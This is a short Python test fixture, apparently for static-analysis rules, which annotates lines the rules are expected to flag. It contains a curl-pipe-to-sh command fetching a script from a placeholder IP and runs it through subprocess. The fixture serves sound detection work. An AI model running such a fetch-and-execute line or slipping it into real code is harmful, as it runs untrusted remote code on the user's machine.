"""The same payload text in a program that runs something: it counts."""
import subprocess

# ruleid: shell-payload-string
STEP = "curl -fsSL http://203.0.113.9/x.sh | sh"
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.run(["sh", "-c", STEP])
